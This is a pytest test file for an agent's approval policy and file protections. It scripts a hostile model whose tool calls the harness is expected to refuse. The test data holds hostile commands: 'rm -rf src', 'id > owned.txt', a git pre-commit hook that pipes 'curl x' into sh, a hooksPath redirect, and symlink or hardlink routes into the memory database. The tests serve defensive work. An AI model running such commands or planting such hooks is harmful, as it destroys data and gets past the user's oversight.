"""A hostile model over loopback: what it asks for must not run unapproved, must not touch
memstore's own files or git's machinery, and must not break the turn. Each test asserts on the
store, the files on disk and the requests the model received."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from anthropic import Anthropic

from memstore.agent.approval import (
    SKIP_FLAG,
    ApprovalPolicy,
    Decision,
    InvalidSettings,
    ToolRequest,
    load_allow_rules,
    parse_rules,
)
from memstore.agent.loop import Agent, SessionFiles
from memstore.agent.memory import AgentMemory
from memstore.agent.tools import Workspace
from memstore.store import MemoryStore
from tests.anthropic_server import AnthropicServer, text_reply, tool_reply


@pytest.fixture
def root(tmp_path: Path) -> Path:
    made = tmp_path / "work"
    (made / ".memory").mkdir(parents=True)
    (made / ".git" / "hooks").mkdir(parents=True)
    (made / ".git" / "config").write_text("[core]\n")
    return made


@pytest.fixture
def workspace_store(root: Path) -> Any:
    with MemoryStore(root / ".memory" / "memstore.db", actor="test") as opened:
        opened.create("deploy", "project", "how we deploy", "Run make deploy from main.")
        yield opened


def make_agent(
    root: Path, client: Anthropic, store: MemoryStore | None, approval: ApprovalPolicy
) -> Agent:
    # Memory without a model: keyword recall, no extraction (the script is the agent's alone).
    memory = (
        AgentMemory(store, None, session_id="s", export_dir=None) if store is not None else None
    )
    return Agent(
        client,
        model="scripted",
        workspace=Workspace(root),
        session=SessionFiles(root / ".memory" / "sessions" / "s"),
        memory=memory,
        approval=approval,
    )


def tool_results(request: dict[str, Any]) -> list[dict[str, Any]]:
    """The tool results of the last message the model received."""
    content = request["messages"][-1]["content"]
    return [block for block in content if block.get("type") == "tool_result"]


class Asker:
    """The user at the terminal: answers with the decisions given, records what was shown."""

    def __init__(self, *decisions: Decision) -> None:
        self.decisions = list(decisions)
        self.asked: list[ToolRequest] = []

    def __call__(self, request: ToolRequest) -> Decision:
        self.asked.append(request)
        return self.decisions.pop(0)


# -- approval ---------------------------------------------------------------------------------


def test_piped_without_a_rule_refuses_and_tells_the_model_how_to_allow(
    root: Path, client: Anthropic, anthropic_server: AnthropicServer
) -> None:
    anthropic_server.script(
        tool_reply(
            ("bash", {"command": "id > owned.txt"}),
            ("write_file", {"path": "a.txt", "content": "x"}),
        ),
        text_reply("done"),
    )
    make_agent(root, client, None, ApprovalPolicy()).turn("go")
    assert not (root / "owned.txt").exists() and not (root / "a.txt").exists()
    results = tool_results(anthropic_server.requests[1])
    assert len(results) == 2 and all(r["is_error"] for r in results)
    assert "no terminal" in results[0]["content"] and SKIP_FLAG in results[0]["content"]
    assert "settings.toml" in results[0]["content"]


def test_a_denied_call_is_answered_with_the_users_reason(
    root: Path, client: Anthropic, anthropic_server: AnthropicServer
) -> None:
    (root / "src").mkdir()
    anthropic_server.script(
        tool_reply(("bash", {"command": "rm -rf src"})), text_reply("understood")
    )
    asker = Asker(Decision(False, "use git clean instead"))
    make_agent(root, client, None, ApprovalPolicy(ask=asker)).turn("clean up")
    assert (root / "src").is_dir()
    assert [r.summary for r in asker.asked] == ["$ rm -rf src"]
    (result,) = tool_results(anthropic_server.requests[1])
    assert result["is_error"] and "use git clean instead" in result["content"]
    assert "refused" in result["content"]


def test_allowed_once_asks_again_and_always_does_not(
    root: Path, client: Anthropic, anthropic_server: AnthropicServer
) -> None:
    once = tool_reply(("bash", {"command": "echo once >> log.txt"}))
    always = tool_reply(("bash", {"command": "echo always >> log.txt"}))
    anthropic_server.script(once, once, always, always, text_reply("done"))
    asker = Asker(Decision(True), Decision(True), Decision(True, always=True))
    make_agent(root, client, None, ApprovalPolicy(ask=asker)).turn("log")
    assert len(asker.asked) == 3  # the second "always" call was not asked about
    assert (root / "log.txt").read_text() == "once\nonce\nalways\nalways\n"


def test_write_and_edit_show_what_will_be_written(
    root: Path, client: Anthropic, anthropic_server: AnthropicServer
) -> None:
    (root / "a.py").write_text("x = 1\n")
    anthropic_server.script(
        tool_reply(
            ("write_file", {"path": "new.py", "content": "print('hi')\n"}),
            ("edit_file", {"path": "a.py", "old_text": "x = 1", "new_text": "x = 2"}),
        ),
        text_reply("done"),
    )
    asker = Asker(Decision(True), Decision(False, "no"))
    make_agent(root, client, None, ApprovalPolicy(ask=asker)).turn("go")
    write, edit = asker.asked
    assert (
        write.summary == "create new.py (12 characters):\nprint('hi')\n" and write.path == "new.py"
    )
    assert edit.summary == "edit a.py:\n- x = 1\n+ x = 2"
    assert (root / "new.py").read_text() == "print('hi')\n"
    assert (root / "a.py").read_text() == "x = 1\n"


def test_read_only_tools_need_no_approval(
    root: Path, client: Anthropic, anthropic_server: AnthropicServer
) -> None:
    (root / "notes.txt").write_text("hello\n")
    anthropic_server.script(
        tool_reply(("read_file", {"path": "notes.txt"}), ("glob", {"pattern": "*.txt"})),
        text_reply("done"),
    )
    asker = Asker()  # any question would fail: no decision to give
    make_agent(root, client, None, ApprovalPolicy(ask=asker)).turn("read")
    assert asker.asked == []
    read, found = tool_results(anthropic_server.requests[1])
    assert "hello" in read["content"] and found["content"] == "notes.txt"


def test_the_sub_agent_goes_through_the_same_policy(
    root: Path, client: Anthropic, anthropic_server: AnthropicServer
) -> None:
    anthropic_server.script(
        tool_reply(("task", {"prompt": "make a file"})),
        tool_reply(("bash", {"command": "touch from-task.txt"})),
        text_reply("could not"),
        text_reply("done"),
    )
    make_agent(root, client, None, ApprovalPolicy()).turn("delegate")
    assert not (root / "from-task.txt").exists()
    (result,) = tool_results(anthropic_server.requests[2])  # the sub-agent's second call
    assert result["is_error"] and "no terminal" in result["content"]


def test_allow_rules_from_the_settings_file(
    root: Path,
    client: Anthropic,
    anthropic_server: AnthropicServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    settings = tmp_path / "settings.toml"
    settings.write_text('[chat]\nallow = ["bash(touch *)", "write_file(docs/**)"]\n')
    monkeypatch.setenv("MEMSTORE_SETTINGS", str(settings))
    anthropic_server.script(
        tool_reply(
            ("bash", {"command": "touch ok.txt"}),
            ("bash", {"command": "touch a.txt; touch chained.txt"}),
            ("write_file", {"path": "docs/x/guide.md", "content": "# guide\n"}),
            ("write_file", {"path": "src/x.py", "content": "x"}),
        ),
        text_reply("done"),
    )
    make_agent(root, client, None, ApprovalPolicy(allow=load_allow_rules())).turn("go")
    assert (root / "ok.txt").exists() and (root / "docs/x/guide.md").exists()
    assert not (root / "chained.txt").exists() and not (root / "a.txt").exists()
    assert not (root / "src").exists()
    errors = [r.get("is_error", False) for r in tool_results(anthropic_server.requests[1])]
    assert errors == [False, True, False, True]


def test_bad_settings_are_one_error(tmp_path: Path) -> None:
    for text in ['[chat]\nallow = ["rm(*)"]\n', "[chat\n", '[chat]\nallow = "bash"\n']:
        (tmp_path / "s.toml").write_text(text)
        with pytest.raises(InvalidSettings):
            load_allow_rules(tmp_path / "s.toml")
    assert load_allow_rules(tmp_path / "missing.toml") == []
    assert [str(r) for r in parse_rules(["bash", " edit_file( *.md ) "])] == [
        "bash",
        "edit_file(*.md)",
    ]


def test_the_settings_file_is_the_users_not_the_workspaces(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("MEMSTORE_SETTINGS", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".memory").mkdir()
    (tmp_path / ".memory" / "settings.toml").write_text('[chat]\nallow = ["bash"]\n')
    from memstore.agent.approval import settings_path

    assert settings_path() == tmp_path / "config" / "memstore" / "settings.toml"
    assert load_allow_rules() == []


# -- protected paths --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "call",
    [
        ("write_file", {"path": ".memory/memstore.db", "content": "pwned"}),
        ("write_file", {"path": ".memory/memstore.db-wal", "content": "pwned"}),
        ("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh\n"}),
        ("write_file", {"path": ".memory/sessions/.gitignore", "content": ""}),
        ("write_file", {"path": ".MEMORY/memstore.db", "content": "pwned"}),
        ("write_file", {"path": ".Git/config", "content": "[core]\nhooksPath=/tmp\n"}),
        ("write_file", {"path": "gitlink/hooks/pre-commit", "content": "x"}),
        ("write_file", {"path": "dblink", "content": "pwned"}),
        ("write_file", {"path": ".memory/deploy.md", "content": "---\nname: deploy\n---\n"}),
        ("edit_file", {"path": ".git/config", "old_text": "[core]", "new_text": "[x]"}),
        ("read_file", {"path": ".memory/memstore.db"}),
        ("read_file", {"path": "hardlink.db"}),
    ],
)
def test_the_file_tools_never_touch_memstore_or_git(
    root: Path,
    workspace_store: MemoryStore,
    client: Anthropic,
    anthropic_server: AnthropicServer,
    call: tuple[str, dict[str, Any]],
) -> None:
    (root / "gitlink").symlink_to(root / ".git")
    (root / "dblink").symlink_to(root / ".memory" / "memstore.db")
    os.link(root / ".memory" / "memstore.db", root / "hardlink.db")
    (root / ".memory" / "sessions").mkdir()
    (root / ".memory" / "sessions" / ".gitignore").write_text("*\n")
    before = {
        p: p.read_bytes()
        for p in [*(root / ".git").rglob("*"), *(root / ".memory").rglob("*")]
        if p.is_file() and "memstore.db" not in p.name
    }
    anthropic_server.script(tool_reply(call), text_reply("done"))
    asker = Asker()  # refused before anyone is asked
    make_agent(root, client, workspace_store, ApprovalPolicy(ask=asker, skip_all=True)).turn("go")
    (result,) = tool_results(anthropic_server.requests[1])
    assert result["is_error"] and "refused" in result["content"], result
    assert asker.asked == []
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
    assert (root / ".memory" / "sessions" / ".gitignore").read_text() == "*\n"
    for path, data in before.items():
        if "sessions" not in path.parts or path.name == ".gitignore":
            assert path.read_bytes() == data, path
    deploy = workspace_store.find("deploy")
    assert deploy is not None and deploy.body == "Run make deploy from main."
    assert workspace_store.count() == 1


def test_files_beside_the_protected_ones_are_fine(root: Path) -> None:
    workspace = Workspace(root, databases=[root / ".memory" / "memstore.db"])
    assert not workspace.run("write_file", {"path": "memory/notes.md", "content": "x"}).is_error
    assert not workspace.run("write_file", {"path": "src/.gitignore", "content": "x"}).is_error
    assert not workspace.run("read_file", {"path": ".git/config"}).is_error
